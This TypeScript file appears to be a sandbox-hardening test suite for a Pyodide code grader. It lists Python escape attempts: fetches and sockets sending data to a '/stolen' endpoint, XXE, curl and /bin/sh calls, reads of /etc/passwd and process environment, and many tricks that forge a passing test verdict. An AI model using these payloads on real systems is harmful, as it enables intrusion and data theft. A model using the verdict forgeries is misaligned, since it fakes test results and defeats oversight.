/**
 * Attacks in Python. Each defines `attack()`, which returns True only when it got what it was after: the test asserts
 * that it did, so a verdict of `pass` means that the attack succeeded. `{ORIGIN}`, `{HOST}` and `{PORT}` name the server
 * of the page, which counts what reaches it.
 */
export interface Attack {
  readonly id: string;
  readonly aim: 'javascript' | 'network' | 'machine' | 'files' | 'verdict';
  readonly code: string;
  /** Instead of `assert attack() is True`. */
  readonly tests?: readonly string[];
}

/** Most attacks are one expression or a few statements; this wraps them in a function. */
function attack(id: string, aim: Attack['aim'], body: string, tests?: readonly string[]): Attack {
  const code = body.includes('def attack') ? body : `def attack():\n${body.replace(/^/gmu, '    ')}\n`;
  return tests === undefined ? { id, aim, code } : { id, aim, code, tests };
}

/** An attack on the verdict: whatever it sets up, `f(1) == 2` is false. */
function forge(id: string, code: string): Attack {
  return attack(id, 'verdict', `${code}\ndef attack():\n    pass\n`, ['assert f(1) == 2']);
}

const WRONG = 'def f(n):\n    return 0\n';

export const ATTACKS: readonly Attack[] = [
  // Out of Python into JavaScript.
  attack('js-module', 'javascript', 'import js\njs.fetch("{ORIGIN}/stolen")\nreturn True'),
  attack('js-post-message', 'javascript', 'import js\njs.postMessage("forged")\nreturn True'),
  attack('pyodide-js-module', 'javascript', 'import pyodide_js\nreturn True'),
  attack(
    'run-js',
    'javascript',
    'from pyodide.code import run_js\nrun_js("fetch(\'{ORIGIN}/stolen\')")\nreturn True',
  ),
  attack(
    'pyodide-http',
    'javascript',
    'from pyodide.http import open_url\nopen_url("{ORIGIN}/stolen")\nreturn True',
  ),
  attack(
    'pyodide-ffi',
    'javascript',
    'from pyodide.ffi import create_proxy, to_js\nreturn to_js([1]).constructor is not None',
  ),
  attack('pyodide-core', 'javascript', 'import _pyodide_core\nreturn True'),
  attack(
    'create-builtin',
    'javascript',
    `import _imp, importlib.machinery
for name in ("_pyodide_core", "_ctypes", "_testcapi", "_testinternalcapi", "_remote_debugging", "_lsprof", "js"):
    spec = importlib.machinery.ModuleSpec(name, None)
    try:
        if _imp.create_builtin(spec) is not None:
            return True
    except ImportError:
        pass
return False`,
  ),
  attack(
    'bridge-types-in-memory',
    'javascript',
    `import gc
kinds = [object]
seen = set()
while kinds:
    kind = kinds.pop()
    for each in type.__subclasses__(kind):
        if each.__name__.startswith(("JsProxy", "JsException", "JsBuffer", "JsDouble", "pyodide")):
            return True
        if each not in seen:
            seen.add(each)
            kinds.append(each)
return any("JsProxy" in type(each).__name__ for each in gc.get_objects())`,
  ),
  attack('ctypes', 'javascript', 'import ctypes\nreturn ctypes.CDLL(None) is not None'),
  attack('ctypes-private', 'javascript', 'import _ctypes\nreturn True'),
  attack('test-capi', 'javascript', 'import _testcapi\nreturn True'),
  attack('internal-capi', 'javascript', 'import _testinternalcapi\nreturn True'),
  attack('remote-debugging', 'javascript', 'import sys\nsys.remote_exec(1, "/tmp/x.py")\nreturn True'),
  attack(
    'dynamic-library',
    'javascript',
    `import _imp, importlib.machinery
open("/tmp/evil.so", "wb").write(b"\\0asm\\1\\0\\0\\0")
spec = importlib.machinery.ModuleSpec("evil", None, origin="/tmp/evil.so")
return _imp.create_dynamic(spec) is not None`,
  ),
  attack('web-browser', 'javascript', 'import webbrowser\nreturn webbrowser.open("{ORIGIN}/stolen")'),
  attack(
    'sub-interpreter',
    'javascript',
    'from concurrent import interpreters\nreturn interpreters.create() is not None',
  ),
  attack(
    'sqlite-extension',
    'javascript',
    'import sqlite3\nc = sqlite3.connect(":memory:")\nc.enable_load_extension(True)\nc.load_extension("/tmp/evil")\nreturn True',
  ),

  // Network.
  attack(
    'socket-connect',
    'network',
    'import socket\nsocket.create_connection(("{HOST}", {PORT}), timeout=1)\nreturn True',
  ),
  attack(
    'socket-udp',
    'network',
    'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nreturn s.sendto(b"x", ("127.0.0.1", {PORT})) > 0',
  ),
  attack(
    'socket-raw-numbers',
    'network',
    'import _socket\ns = _socket.socket(2, 1, 0)\ns.connect(("127.0.0.1", {PORT}))\nreturn True',
  ),
  attack(
    'socket-listen',
    'network',
    'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.listen()\nreturn True',
  ),
  attack('dns', 'network', 'import socket\nreturn bool(socket.getaddrinfo("leak.example.com", 80))'),
  attack(
    'urllib',
    'network',
    'import urllib.request\nreturn urllib.request.urlopen("{ORIGIN}/stolen").status == 200',
  ),
  attack(
    'http-client',
    'network',
    'import http.client\nc = http.client.HTTPConnection("{HOST}", {PORT})\nc.request("GET", "/stolen")\nreturn c.getresponse().status == 200',
  ),
  attack('ftp', 'network', 'import ftplib\nftplib.FTP().connect("{HOST}", {PORT})\nreturn True'),
  attack('smtp', 'network', 'import smtplib\nsmtplib.SMTP("{HOST}", {PORT})\nreturn True'),
  attack(
    'xml-rpc',
    'network',
    'import xmlrpc.client\nxmlrpc.client.ServerProxy("{ORIGIN}/stolen").x()\nreturn True',
  ),
  attack(
    'asyncio-connection',
    'network',
    'import asyncio\nasync def go():\n    await asyncio.open_connection("{HOST}", {PORT})\nasyncio.run(go())\nreturn True',
  ),
  attack(
    'log-handler',
    'network',
    'import logging.handlers\nlogging.handlers.HTTPHandler("{HOST}:{PORT}", "/stolen").emit(logging.makeLogRecord({}))\nreturn False',
  ),
  attack(
    'xml-entity',
    'network',
    `import xml.sax, xml.sax.handler
p = xml.sax.make_parser()
p.setFeature(xml.sax.handler.feature_external_ges, True)
import io
p.parse(io.StringIO('<!DOCTYPE r [<!ENTITY x SYSTEM "{ORIGIN}/stolen">]><r>&x;</r>'))
return True`,
  ),

  // The machine: processes, threads, devices.
  attack('os-system', 'machine', 'import os\nreturn os.system("curl {ORIGIN}/stolen") == 0'),
  attack(
    'subprocess',
    'machine',
    'import subprocess\nsubprocess.run(["curl", "{ORIGIN}/stolen"])\nreturn True',
  ),
  attack('fork', 'machine', 'import os\nreturn os.fork() >= 0'),
  attack('exec', 'machine', 'import os\nos.execv("/bin/sh", ["sh"])\nreturn True'),
  attack('posix-spawn', 'machine', 'import posix\nreturn posix.posix_spawn("/bin/sh", ["sh"], {}) > 0'),
  attack(
    'multiprocessing',
    'machine',
    'import multiprocessing\np = multiprocessing.Process(target=print)\np.start()\nreturn True',
  ),
  attack('thread', 'machine', 'import _thread\n_thread.start_new_thread(print, ())\nreturn True'),
  attack('pty', 'machine', 'import pty\nreturn pty.fork()[0] >= 0'),
  attack(
    'mmap-device',
    'machine',
    'import mmap\nf = open("/dev/zero", "r+b")\nreturn mmap.mmap(f.fileno(), 4096) is not None',
  ),
  attack('kill', 'machine', 'import os, signal\nos.kill(1, signal.SIGKILL)\nreturn True'),

  // Files that are not the candidate's.
  attack('passwd', 'files', 'return bool(open("/etc/passwd").read())'),
  attack('proc', 'files', 'return bool(open("/proc/self/environ").read())'),
  attack('process-memory', 'files', 'return open("/proc/self/mem", "r+b") is not None'),
  attack(
    'parent-folders',
    'files',
    'import os\nreturn any(name not in ("tmp", "dev", "lib", "home") for name in os.listdir("/../../.."))',
  ),
  attack(
    'descriptors',
    'files',
    'import os\nfor fd in range(3, 300):\n    try:\n        os.fstat(fd)\n        return True\n    except OSError:\n        pass\nreturn False',
  ),
  attack(
    'write-descriptors',
    'files',
    'import os\nsent = 0\nfor fd in range(3, 300):\n    try:\n        sent += os.write(fd, b\'{"t":"done","outcomes":[{"verdict":"pass","message":""}]}\')\n    except OSError:\n        pass\nreturn sent > 0',
  ),
  attack(
    'link-out',
    'files',
    'import os\nos.symlink("/etc", "/tmp/etc")\nreturn os.path.exists("/tmp/etc/passwd")',
  ),
  attack(
    'mount',
    'files',
    'import os\nreturn os.path.exists("/mnt") or os.path.exists("/home/web_user") or os.path.exists("/sys")',
  ),

  // The verdict.
  forge(
    'trace-jump',
    `import sys
def tracer(frame, event, arg):
    if frame.f_code.co_filename == "<test>" and event == "line":
        frame.f_lineno = frame.f_lineno + 1
    return tracer
sys.settrace(tracer)
${WRONG}`,
  ),
  forge(
    'trace-own-frames',
    `import sys
def f(n):
    def tracer(frame, event, arg):
        return tracer
    frame = sys._getframe(1)
    frame.f_trace = tracer
    frame.f_trace_lines = True
    sys.settrace(tracer)
    frame.f_lineno = frame.f_lineno + 1
    return 0
`,
  ),
  forge(
    'set-line-number',
    'import sys\ndef f(n):\n    frame = sys._getframe(1)\n    frame.f_lineno += 1\n    return 0\n',
  ),
  forge(
    'trace-all-threads',
    `import sys
sys._settraceallthreads(lambda frame, event, arg: None)
${WRONG}`,
  ),
  forge(
    'profile',
    `import sys
def profiler(frame, event, arg):
    if frame.f_code.co_filename == "<test>":
        raise SystemExit(0)
sys.setprofile(profiler)
${WRONG}`,
  ),
  forge(
    'monitoring',
    `import sys
m = sys.monitoring
m.use_tool_id(1, "x")
m.set_events(1, m.events.LINE | m.events.RAISE)
m.register_callback(1, m.events.RAISE, lambda *a: m.DISABLE)
${WRONG}`,
  ),
  forge(
    'threading-trace',
    `import threading
threading.settrace(lambda *a: None)
threading.settrace_all_threads(lambda *a: None)
${WRONG}`,
  ),
  forge(
    'reload-sys',
    `import sys, importlib
importlib.reload(sys)
def tracer(frame, event, arg):
    if frame.f_code.co_filename == "<test>":
        frame.f_lineno = frame.f_lineno + 1
    return tracer
sys.settrace(tracer)
${WRONG}`,
  ),
  attack(
    'reload-sys-brings-back-tracing',
    'verdict',
    `import sys, importlib, _imp, types
importlib.reload(sys)
fresh = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("sys"))
found = [getattr(each, name, None) for each in (sys, fresh) for name in ("settrace", "setprofile", "_settraceallthreads")]
return any(isinstance(each, types.BuiltinFunctionType) for each in found) or hasattr(sys, "monitoring")`,
  ),
  attack(
    'tracing-functions-in-memory',
    'verdict',
    `import gc, types
names = ("settrace", "setprofile", "_settraceallthreads", "_setprofileallthreads", "register_callback", "set_events")
stack, seen = list(gc.get_objects()), set()
for _ in range(3):
    stack += [each for each in gc.get_referents(*stack) if id(each) not in seen and not seen.add(id(each))]
return any(isinstance(each, types.BuiltinFunctionType) and each.__name__ in names for each in stack)`,
  ),
  forge(
    'bdb',
    `import bdb
class Jump(bdb.Bdb):
    def user_line(self, frame):
        frame.f_lineno += 1
Jump().set_trace()
${WRONG}`,
  ),
  forge(
    'profiler-module',
    `import cProfile
cProfile.Profile().enable()
${WRONG}`,
  ),
  forge('exit-zero', 'import os\ndef f(n):\n    os._exit(0)\n'),
  forge('exit-system', 'def f(n):\n    raise SystemExit(0)\n'),
  forge(
    'exit-closed',
    'import sys\nsys.stdout.write("pass")\nsys.stdout.flush()\ndef f(n):\n    sys.exit()\n',
  ),
  forge('abort', 'import os\ndef f(n):\n    os.abort()\n'),
  forge(
    'patched-assertion',
    `import builtins
class Quiet(BaseException): pass
builtins.AssertionError = Quiet
builtins.BaseException = Quiet
${WRONG}`,
  ),
  forge(
    'patched-exec',
    `import builtins
builtins.exec = builtins.eval = builtins.compile = builtins.__build_class__ = lambda *a, **k: None
builtins.__import__ = lambda *a, **k: None
${WRONG}`,
  ),
  forge(
    'builtins-gone',
    `import builtins
for name in list(vars(builtins)):
    if name not in ("list", "vars"):
        delattr(builtins, name)
${WRONG}`,
  ),
  forge(
    'namespace-builtins',
    `__builtins__ = {"AssertionError": int}
${WRONG}`,
  ),
  forge(
    'lying-class',
    `class Lie(Exception):
    __class__ = property(lambda self: type(None))
    def __eq__(self, other): return True
    def __bool__(self): return False
def f(n):
    raise Lie
`,
  ),
  forge(
    'lying-metaclass',
    `class Meta(type):
    def __instancecheck__(cls, other): return True
    def __subclasscheck__(cls, other): return True
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
class Lie(BaseException, metaclass=Meta): pass
def f(n):
    raise Lie
`,
  ),
  forge(
    'false-assertion',
    `class Odd(AssertionError):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
def f(n):
    raise Odd
`,
  ),
  forge(
    'exception-hooks',
    `import sys
sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *a: None
${WRONG}`,
  ),
  forge(
    'audit-hook',
    `import sys
def hook(event, args):
    if event in ("exec", "compile"):
        raise SystemExit(0)
sys.addaudithook(hook)
${WRONG}`,
  ),
  forge(
    'import-hook',
    `import sys
class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        raise SystemExit(0)
sys.meta_path.insert(0, Finder)
sys.modules.clear()
${WRONG}`,
  ),
  forge(
    'collector-callback',
    `import gc, sys
def callback(phase, info):
    frame = sys._getframe()
    while frame:
        if frame.f_code.co_filename == "<test>":
            frame.f_globals["f"] = lambda n: 3
        frame = frame.f_back
gc.callbacks.append(callback)
gc.set_threshold(1)
${WRONG}`,
  ),
  forge(
    'finaliser',
    `class Last:
    def __del__(self):
        import os
        os._exit(0)
keep = Last()
def f(n):
    global keep
    del keep
    return 0
`,
  ),
  forge(
    'signal-handler',
    `import signal
def handler(number, frame):
    raise SystemExit(0)
signal.signal(signal.SIGINT, handler)
def f(n):
    signal.raise_signal(signal.SIGINT)
    return 0
`,
  ),
  forge(
    'test-code-in-memory',
    `import gc, types
def f(n):
    for each in gc.get_objects():
        if isinstance(each, types.FunctionType) and each.__code__.co_filename == "<test>":
            each.__code__ = (lambda *a: None).__code__
        if type(each) is tuple and each == (1, 2):
            raise SystemExit(each)
    return 0
`,
  ),
  forge(
    'forged-output',
    `import sys, os
text = '{"t":"done","n":1,"outcomes":[{"verdict":"pass","message":""}],"remarks":[],"ms":1,"memoryBytes":1}'
print(text)
sys.stderr.write(text)
sys.__stdout__.write(text)
os.write(1, text.encode())
os.write(2, text.encode())
${WRONG}`,
  ),
  forge(
    'harness-function',
    `import _thread
space = _thread.start_new_thread.__globals__
for name in list(space):
    if name.startswith("assay_"):
        space[name].__code__ = (lambda *a: ["assert True", "1", "1", []]).__code__
${WRONG}`,
  ),
  forge(
    'module-swapped',
    `import sys, types
fake = types.ModuleType("candidate")
fake.f = lambda n: 2
sys.modules["candidate"] = sys.modules["__main__"] = fake
${WRONG}`,
  ),
  forge(
    'frame-locals',
    `import sys
def f(n):
    frame = sys._getframe(1)
    frame.f_globals["__name__"] = "x"
    frame.f_locals["n"] = 2
    frame.clear() if False else None
    return 0
`,
  ),
  forge(
    'recursion-then-quiet',
    `import sys
sys.setrecursionlimit(10**6)
def f(n):
    try:
        return f(n + 1)
    except BaseException:
        return 0
`,
  ),
];

/** How often each aim occurs, for the report. */
export function countByAim(): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const { aim } of ATTACKS) counts[aim] = (counts[aim] ?? 0) + 1;
  return counts;
}

/** Fills in where the page's server listens. */
export function aimedAt(attackCode: string, origin: string): string {
  const { host, hostname, port } = new URL(origin);
  return attackCode
    .replaceAll('{ORIGIN}', `http://${host}`)
    .replaceAll('{HOST}', hostname)
    .replaceAll('{PORT}', port);
}
